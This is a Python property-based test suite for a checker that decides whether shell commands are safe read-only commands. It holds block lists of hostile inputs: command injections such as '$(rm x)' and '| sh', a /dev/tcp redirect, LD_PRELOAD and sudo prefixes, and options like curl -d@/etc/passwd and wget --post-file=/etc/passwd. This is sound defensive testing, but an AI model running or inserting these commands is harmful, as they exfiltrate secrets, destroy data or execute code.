"""Accepted commands stay what they are under any harmless spelling; one unsafe addition ends it."""

import json
import random
import shlex
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from agents.types import JSON
from safety.commands import Proof, prove
from safety.commands.refusal import Refused
from safety.commands.script import Pipeline, Step, pipelines_of
from safety.commands.shell import parse_script
from tests.safety.commands.samples import ENDLESS, READS, UNSAFE, lines

pytestmark = pytest.mark.slow

ACCEPTED = [command for text in READS.values() for command in lines(text)]
REFUSED = [command for text in UNSAFE.values() for command in lines(text)]
SIMPLE = [
    command
    for command in [*ACCEPTED, *lines(ENDLESS)]
    if isinstance(step := parse_script(command), Pipeline)
    and len(step.commands) == 1
    and step.commands[0].argv[0] not in ("test", "watch", "time")
    and shlex.split(command) == list(step.commands[0].argv)
]

UNSAFE_ENDINGS = [
    "; rm x",
    ";rm x",
    " && rm x",
    " || rm x",
    " & rm x",
    " &",
    "\nrm x",
    " | sh",
    " | tee /tmp/x",
    " | xargs rm",
    " > /tmp/x",
    " >> /tmp/x",
    " 2> /tmp/x",
    " &> /tmp/x",
    " >| /tmp/x",
    " <> /tmp/x",
    " > /dev/tcp/203.0.113.9/80",
    " $(rm x)",
    " `rm x`",
    " <(rm x)",
    ' "$(rm x)"',
    " ${x}",
    " $x",
    " 'x",
    ' "x',
    " (",
    " )",
    " *",
    " ~",
    " {a,b}",
    " \\",
    " <<< x",
    "\r",
    "\0",
    " \u202e",
    " ;; x",
    " <<E\n$(rm x)\nE",
]
UNSAFE_BEGINNINGS = [
    "rm x; ",
    "rm x && ",
    "rm x | ",
    "sudo ",
    "env A=b ",
    "A=b ",
    "LD_PRELOAD=/tmp/x ",
    "eval ",
    "exec ",
    "builtin ",
    "nohup ",
    "strace ",
    "sh -c ",
    "busybox ",
    "ssh host ",
    "docker exec web ",
    "if rm x; then ",
    "coproc ",
    "trap ",
    "x() { ",
    "$(",
    "`",
    "/tmp/",
    "./",
    "~/",
]
# Options that write or run something, by the program that has them.
UNSAFE_OPTIONS = {
    "sort": ["-o/tmp/x", "--output=/tmp/x", "--compress-program=sh", "-T/tmp"],
    "sed": ["-i", "--in-place", "-f/tmp/x", "--file=/tmp/x"],
    "awk": ["-f/tmp/x", "-i", "-o/tmp/x", "-E/tmp/x", "-Wexec=/tmp/x"],
    "find": ["-delete", "-exec", "-fls", "-fprint", "-okdir"],
    "tar": ["-x", "--to-command=sh", "--checkpoint-action=exec=sh", "-Ish", "--rsh-command=sh"],
    "curl": ["-O", "-o/tmp/x", "-d@/etc/passwd", "-T/etc/passwd", "-K/tmp/x", "-XPOST", "--next"],
    "wget": ["-O/tmp/x", "--post-file=/etc/passwd", "-i/tmp/x", "--use-askpass=sh"],
    "git": ["-c", "--exec-path=/tmp", "--output=/tmp/x", "--ext-diff", "--textconv", "-Osh"],
    "kubectl": ["--kubeconfig=/tmp/x", "-shttp://evil", "--token=x", "--as=x", "--server=x"],
    "docker": ["-Htcp://evil", "--host=x", "--config=/tmp", "-H"],
    "journalctl": ["--rotate", "--vacuum-size=1", "--flush", "--cursor-file=/tmp/x", "--vac=1"],
    "systemctl": ["-Hh", "--root=/x", "--force", "-Mx"],
    "dmesg": ["-C", "-c", "--clear", "-D", "-n1"],
    "ip": ["-b/tmp/x", "-batch", "-n", "-force", "-all"],
    "iptables": ["-F", "-Z", "-A", "-X", "--modprobe=sh"],
    "psql": ["-f/tmp/x", "-o/tmp/x", "-L/tmp/x", "--file=/tmp/x"],
    "mysql": ["--tee=/tmp/x", "--pager=sh", "--init-command=drop"],
    "redis-cli": ["--eval", "-x", "--rdb", "--pipe"],
    "tcpdump": ["-w/tmp/x", "-zsh", "-G1", "--write=/tmp/x"],
    "date": ["-s1", "--set=1"],
    "hostname": ["-F/tmp/x", "-b"],
    "ss": ["-K", "-D/tmp/x", "--kill"],
    "ps": ["--unknown"],
}


def meaning(proof: Proof) -> tuple[object, ...]:
    return proof.intent, proof.bounded, proof.script, proof.category


def spellings(word: str, pick: random.Random) -> str:
    """The word in one of the ways in which a shell reads the same text."""
    escaped = "".join(f"\\{c}" if c in '"\\$`' else c for c in word)
    ways = [f'"{escaped}"', shlex.quote(word)]
    if "'" not in word:
        ways.append(f"'{word}'")
        cut = pick.randrange(len(word) + 1)
        ways.append(f"'{word[:cut]}'\"{escaped[:0]}\"'{word[cut:]}'")
    return pick.choice(ways)


@given(st.sampled_from(SIMPLE), st.randoms(use_true_random=False))
def test_another_spelling_of_the_same_words_means_the_same(command: str, pick: random.Random):
    name, *words = shlex.split(command)
    respelled = " ".join([name, *(spellings(word, pick) for word in words)])
    blanks = (
        pick.choice(["", " ", "\t", "\n "]) + respelled + pick.choice(["", " ", ";", "\n", " # x"])
    )

    assert meaning(prove(blanks)) == meaning(prove(command))


@given(st.sampled_from(ACCEPTED), st.sampled_from(UNSAFE_ENDINGS))
def test_an_unsafe_ending_is_never_accepted(command: str, ending: str):
    assert not prove(command + ending).is_read


@given(st.sampled_from(ACCEPTED), st.sampled_from(UNSAFE_BEGINNINGS))
def test_an_unsafe_beginning_is_never_accepted(command: str, beginning: str):
    assert not prove(beginning + command).is_read


@given(
    st.sampled_from(REFUSED),
    st.sampled_from(["", " ; ls", " | cat", " && ls", "\nls", " | head -1"]),
    st.sampled_from(["", "ls; ", "ls && ", "timeout 5 ", "nice ", "! ", "time "]),
)
def test_nothing_around_an_unsafe_command_makes_it_a_read(command: str, after: str, before: str):
    # One that is not complete goes on in the next line.
    assume(not (after.startswith("\n") and command.endswith(("&&", "||", "|"))))

    assert not prove(before + command + after).is_read


@given(st.sampled_from([c for c in SIMPLE if c.split()[0] in UNSAFE_OPTIONS]), st.data())
def test_an_unsafe_option_is_found_wherever_it_stands(command: str, data: st.DataObject):
    words = shlex.split(command)
    option = data.draw(st.sampled_from(UNSAFE_OPTIONS[words[0]]))
    place = data.draw(st.integers(1, len(words)))
    if words[place - 1].startswith("-"):
        return  # There it could be the argument of an option.

    assert not prove(shlex.join([*words[:place], option, *words[place:]])).is_read


@given(st.text(max_size=60))
def test_any_text_at_all_has_an_answer(text: str):
    assert prove(text).reason


@given(st.text(alphabet="lscat rm/x-;|&<>$(){}[]'\"`\\\n\t#*?~=!0", max_size=40))
def test_what_is_made_of_the_shell_s_own_characters_has_an_answer(text: str):
    proof = prove(text)

    assert not (proof.is_read and any(mark in text.split("#")[0] for mark in ("$(", ";;", "&;")))


def mutate(command: str, pick: random.Random) -> str:
    """One or two small changes anywhere."""
    pieces = [
        " ",
        "\t",
        "'",
        '"',
        "\\",
        "$",
        "`",
        ";",
        "|",
        "&",
        "&&",
        "||",
        ">",
        "2>/dev/null",
        "2>&1",
        "<",
        "(",
        ")",
        "{",
        "}",
        "[",
        "]",
        "#",
        " #",
        "*",
        "?",
        "~",
        "!",
        "\n",
        "=",
        "-",
        "a b",
        "$x",
        '"$x"',
        "''",
        '""',
        "'a b'",
        '"a\\"b"',
        "> /dev/null",
        "é",
    ]
    for _ in range(pick.randint(1, 2)):
        place = pick.randrange(len(command) + 1)
        match pick.randrange(3):
            case 0:
                command = command[:place] + pick.choice(pieces) + command[place:]
            case 1:
                command = command[:place] + command[place + 1 :]
            case _:
                command = command[:place] + pick.choice(pieces) + command[place + 1 :]
    return command


def words_of(step: Step) -> list[list[str]]:
    return [list(command.argv) for line in pipelines_of(step) for command in line.commands]


def find_shfmt() -> str | None:
    beside = Path(sys.executable).parent / "shfmt"
    return str(beside) if beside.exists() else shutil.which("shfmt")


def words_by_shfmt(shfmt: str, text: str) -> list[list[str]]:
    """The words of every command of a script, as the other reader sees them."""
    done = subprocess.run(
        [shfmt, "--tojson", "-ln=bash"],
        input=text.encode(),
        capture_output=True,
        check=True,
        timeout=60,
    )
    calls = sorted(_calls(json.loads(done.stdout)), key=lambda call: call[0])
    return [words for _, words in calls]


def _calls(node: JSON) -> Iterator[tuple[int, list[str]]]:
    if isinstance(node, list):
        for inner in node:
            yield from _calls(inner)
        return
    if not isinstance(node, dict):
        return
    if node.get("Type") == "CallExpr":
        yield _offset(node), [_word(word) for word in _list(node.get("Args"))]
    for inner in node.values():
        yield from _calls(inner)


def _list(value: JSON) -> list[dict[str, JSON]]:
    return [part for part in value if isinstance(part, dict)] if isinstance(value, list) else []


def _offset(node: dict[str, JSON]) -> int:
    position = node["Pos"]
    assert isinstance(position, dict)
    offset = position.get("Offset", 0)
    assert isinstance(offset, int)
    return offset


def _word(word: dict[str, JSON]) -> str:
    return "".join(_part(part, is_quoted=False) for part in _list(word["Parts"]))


def _part(part: dict[str, JSON], *, is_quoted: bool) -> str:
    value = str(part.get("Value", ""))
    match part["Type"]:
        case "Lit":
            return _unescape(value, '"\\$`\n' if is_quoted else None)
        case "SglQuoted":
            assert not part.get("Dollar")
            return value
        case "DblQuoted":
            assert not part.get("Dollar")
            return "".join(_part(inner, is_quoted=True) for inner in _list(part.get("Parts")))
    raise AssertionError(f"the other reader sees more than words: {part['Type']}")


def _unescape(text: str, escapable: str | None) -> str:
    out, place = "", 0
    while place < len(text):
        if (
            text[place] == "\\"
            and place + 1 < len(text)
            and (escapable is None or text[place + 1] in escapable)
        ):
            place += 1
        out += text[place]
        place += 1
    return out


def test_another_reader_of_shell_sees_the_same_words_in_ten_thousand_mutated_commands():
    shfmt = find_shfmt()
    if shfmt is None:
        pytest.skip("shfmt is not installed: pip install -r requirements-dev.txt")
    pick = random.Random(20260105)
    seeds = [
        command for command in ACCEPTED if "[" not in command.split()[0] and "time" not in command
    ]
    texts, expected = [], []
    for _ in range(10_000):
        text = mutate(pick.choice(seeds), pick)
        try:
            step = parse_script(text)
        except Refused:
            continue
        if any(argv[0] == "test" for argv in words_of(step)):
            continue  # `[[ ]]` is no call to the other reader.
        texts.append(text)
        expected.append(words_of(step))

    assert len(texts) > 2_000
    for begin in range(0, len(texts), 200):
        # One process for many: each text is complete, so line ends divide them.
        together = words_by_shfmt(shfmt, "\n".join(texts[begin : begin + 200]))
        assert together == [words for some in expected[begin : begin + 200] for words in some]
